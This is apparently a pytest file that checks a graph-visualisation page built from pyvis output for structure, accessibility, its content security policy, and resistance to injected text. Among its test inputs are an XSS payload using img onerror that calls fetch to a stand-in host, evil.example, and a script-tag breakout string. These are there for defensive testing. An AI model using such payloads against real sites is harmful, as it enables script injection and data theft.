"""The neighbourhood's page: what pyvis gives, in a page of our own that runs nothing but its own script and asks nobody."""

from __future__ import annotations

import copy
import json
import re
from collections import Counter
from html.parser import HTMLParser
from typing import Any

import pytest

from dutygraph.picture import frame_policy, neighbourhood_file, neighbourhood_page, vis_script
from dutygraph.picture.graph import graph_of

from .conftest import HOSTILE, spoiled


@pytest.fixture(scope="session")
def near(golden: Any) -> dict[str, Any]:
    day = golden.on("2019-03-01")
    return json.loads(json.dumps(day.neighbourhood(day.find("红岩采石场"), depth=2).as_dict(), ensure_ascii=False))


class Page(HTMLParser):
    """Tags, texts and rows of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: Counter[str] = Counter()
        self.attributes: list[tuple[str, str, str | None]] = []
        self.rows: list[list[str]] = []
        self.cell = False
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.attributes += [(tag, name, value) for name, value in attrs]
        if tag == "tr":
            self.rows.append([])
        if tag == "td":
            self.rows[-1].append("")
            self.cell = True

    def handle_endtag(self, tag: str) -> None:
        self.cell = self.cell and tag != "td"

    def handle_data(self, data: str) -> None:
        if self.cell:
            self.rows[-1][-1] += data


def test_every_node_and_every_relation_is_in_the_graph_also_several_between_the_same_two(near: dict[str, Any]) -> None:
    graph = graph_of(near, "zh")

    assert list(graph.ids) == [node["id"] for node in near["nodes"]]
    assert len(graph.nodes) == len(near["nodes"])
    assert Counter((graph.ids[edge["from"]], graph.ids[edge["to"]]) for edge in graph.edges) == Counter((edge["source"], edge["target"]) for edge in near["edges"])
    assert all(edge["arrows"] == "to" for edge in graph.edges)


def test_the_callers_values_are_not_changed(near: dict[str, Any]) -> None:
    before = copy.deepcopy(near)
    neighbourhood_file(near)

    assert near == before


def test_positions_are_given_physics_is_off_and_no_two_nodes_stand_on_one_place(near: dict[str, Any]) -> None:
    places = [(node["x"], node["y"]) for node in graph_of(near, "zh").nodes]

    assert len(set(places)) == len(places)
    assert "physics: false" in neighbourhood_page(near, "zh", "n")


def test_kinds_are_told_by_a_letter_and_not_by_colour_alone(near: dict[str, Any]) -> None:
    graph = graph_of(near, "zh")
    letters = {near["nodes"][at]["kind"]: node["label"][0] for at, node in enumerate(graph.nodes)}

    assert len(set(letters.values())) == len(letters)


def test_the_table_in_the_file_has_what_the_graph_has(near: dict[str, Any]) -> None:
    page = Page(neighbourhood_file(near))

    names = [row[4] for row in page.rows if len(row) == 5]
    assert names == [node["id"] for node in near["nodes"]]
    assert sum(len(row) == 6 for row in page.rows) == len(near["edges"])


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_a_page_has_doctype_language_title_role_label_and_utf8(near: dict[str, Any], lang: str) -> None:
    for text in (neighbourhood_file(near, lang), neighbourhood_page(near, lang, "n0nce")):
        page = Page(text)
        assert text.startswith("<!doctype html>\n") and text.count("<title>") == 1
        assert ("html", "lang", "zh-CN" if lang == "zh" else "en") in page.attributes
        assert ("meta", "charset", "utf-8") in page.attributes
        assert any(tag == "div" and name == "aria-label" and value for tag, name, value in page.attributes)
        assert any(tag == "div" and name == "role" for tag, name, value in page.attributes)


def test_a_cut_is_said_with_both_numbers(golden: Any) -> None:
    day = golden.on("2019-03-01")
    near = day.neighbourhood(day.find("红岩采石场"), depth=3, limit=10).as_dict()

    assert near["cut"]
    for lang in ("zh", "en"):
        said = neighbourhood_file(near, lang)
        assert re.search(rf"{near['shown']}\D+{near['total']}", said)


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_makes_no_tag_and_no_attribute(near: dict[str, Any], text: str) -> None:
    plain, spoilt = Page(neighbourhood_file(near)), Page(neighbourhood_file(spoiled(near, text)))

    assert spoilt.tags == plain.tags
    assert Counter((tag, name) for tag, name, _ in spoilt.attributes) == Counter((tag, name) for tag, name, _ in plain.attributes)
    assert Page(neighbourhood_page(spoiled(near, text), "zh", "n")).tags == Page(neighbourhood_page(near, "zh", "n")).tags


def test_the_files_policy_names_its_own_scripts_and_nothing_else(near: dict[str, Any]) -> None:
    text = neighbourhood_file(near)
    policy = next(value for tag, name, value in Page(text).attributes if tag == "meta" and name == "content" and value and value.startswith("default-src"))

    assert policy.startswith("default-src 'none'; script-src 'sha256-") and "unsafe" not in policy


def test_vis_network_comes_from_the_wheel_with_its_licence(near: dict[str, Any]) -> None:
    head = vis_script().read_text("utf-8")[:1200]

    assert "@version 9.1.2" in head and "Apache 2.0" in head and "MIT" in head
    assert "@license" in neighbourhood_file(near)


# In a browser: the rows of the table of pyvis's traps that concern what we keep of it.

EVIL = '<img src=x onerror="window.ran=1;fetch(\'http://evil.example/\')">'


def framed(browser: Any, near: dict[str, Any], script_src: str | None = None) -> tuple[Any, list[str], list[str]]:
    """The page as the service answers it, in a sandboxed frame; with what was asked for and what was complained of."""
    page = browser.new_page(viewport={"width": 1200, "height": 800})
    asked, said = [], []
    outer = '<!doctype html><html lang="zh"><title>x</title><body><a data-node="{}" href="/opened">x</a><iframe sandbox="allow-scripts" width="1100" height="700" src="/graph"></iframe><script>{}</script>'.format(
        near["centre"]["id"], "addEventListener('message', function (e) { window.got = e.data; window.origin_ = e.origin; });")

    def answer(route: Any) -> None:
        path = "/" + route.request.url.split("/", 3)[3]
        asked.append(route.request.url)
        if path == "/graph":
            route.fulfill(body=neighbourhood_page(near, "zh", "n0nce", script_src), headers={"content-type": "text/html; charset=utf-8", "content-security-policy": frame_policy("n0nce")})
        elif path == "/vis.js":
            route.fulfill(body=vis_script().read_text("utf-8"), headers={"content-type": "text/javascript; charset=utf-8"})
        elif path == "/":
            route.fulfill(body=outer, headers={"content-type": "text/html; charset=utf-8"})
        else:
            route.abort()
    page.route("**/*", answer)
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.goto("http://county.test/")
    frame = page.frames[1]
    frame.wait_for_selector("html[data-drawn]", state="attached", timeout=20_000)
    page.wait_for_timeout(500)
    return page, asked, said


def pointed(page: Any, frame: Any) -> None:
    """Point at everything, so that every tooltip is shown."""
    box = page.query_selector("iframe").bounding_box()
    for x in range(20, int(box["width"]) - 20, 60):
        for y in range(20, int(box["height"]) - 20, 90):
            page.mouse.move(box["x"] + x, box["y"] + y)
    page.wait_for_timeout(300)


@pytest.mark.parametrize("texts", [
    pytest.param({"name": EVIL + '<a href="x">y</a>'}, id="row 3: title with href"), pytest.param({"name": EVIL, "other": "href"}, id="row 4: another title has href"),
    pytest.param({"heading": EVIL}, id="row 6: heading"), pytest.param({"id": EVIL}, id="row 7: node id"), pytest.param({"name": "</script><script>window.ran=1</script>"}, id="row 9: label"),
    pytest.param({"image": "http://evil.example/x.png"}, id="row 11: image")])
def test_the_traps_of_pyvis_run_nothing_and_ask_nobody(chromium: Any, near: dict[str, Any], texts: dict[str, str]) -> None:
    near = copy.deepcopy(near)
    for at, node in enumerate(near["nodes"]):
        node["name"] = texts.get("other" if at % 2 and "other" in texts else "name", node["name"])
        if "image" in texts:
            node |= {"image": texts["image"], "shape": "image"}
    if "heading" in texts:
        near["centre"]["name"] = texts["heading"]
    if "id" in texts:
        new = {node["id"]: f"{node['id']}{texts['id']}" for node in near["nodes"]}
        near["centre"]["id"] = new[near["centre"]["id"]]
        for node in near["nodes"]:
            node["id"] = new[node["id"]]
        for edge in near["edges"]:
            edge |= {"source": new[edge["source"]], "target": new[edge["target"]]}
    for edge in near["edges"]:
        edge["zh"] = texts.get("name", edge["zh"])
    page, asked, said = framed(chromium, near)
    frame = page.frames[1]
    pointed(page, frame)

    assert frame.evaluate("window.ran === undefined && document.querySelectorAll('img').length === 1")
    assert frame.evaluate("document.documentElement.getAttribute('data-drawn')") == str(len(near["nodes"]))
    assert {url.split("/", 3)[2] for url in asked} == {"county.test"}
    assert said == []
    page.close()


def test_it_draws_with_its_script_from_the_service(chromium: Any, near: dict[str, Any]) -> None:
    page, asked, said = framed(chromium, near, "/vis.js")

    assert [url.rsplit("/", 1)[1] for url in asked if "vis" in url] == ["vis.js"] and said == []
    page.close()


def test_a_click_on_a_node_names_it_to_the_page_around(chromium: Any, near: dict[str, Any]) -> None:
    page, _, _ = framed(chromium, near)
    box = page.query_selector("iframe").bounding_box()
    for x in range(-150, 160, 10):
        page.mouse.click(box["x"] + box["width"] / 2 + x, box["y"] + box["height"] / 2)
        page.wait_for_timeout(30)
        if page.evaluate("window.got"):
            break

    assert page.evaluate("window.got")["dutygraph"] == "open"
    assert page.evaluate("window.got")["node"] in {node["id"] for node in near["nodes"]}
    assert page.evaluate("window.origin_") == "null"
    page.close()


def test_the_file_opens_offline_and_prints_its_picture(chromium: Any, near: dict[str, Any], tmp_path: Any) -> None:
    path = tmp_path / "near.html"
    path.write_text(neighbourhood_file(near, "en"), encoding="utf-8")
    page = chromium.new_page()
    asked, said = [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.goto(path.as_uri())
    page.wait_for_selector("html[data-drawn]", state="attached")
    page.wait_for_timeout(800)

    assert [url for url in asked if not url.startswith("data:")] == [path.as_uri()] and said == []
    assert page.evaluate("document.getElementById('still').src.length") > 5_000
    page.emulate_media(media="print")
    assert page.evaluate("getComputedStyle(document.getElementById('still')).display") == "block"
    page.close()
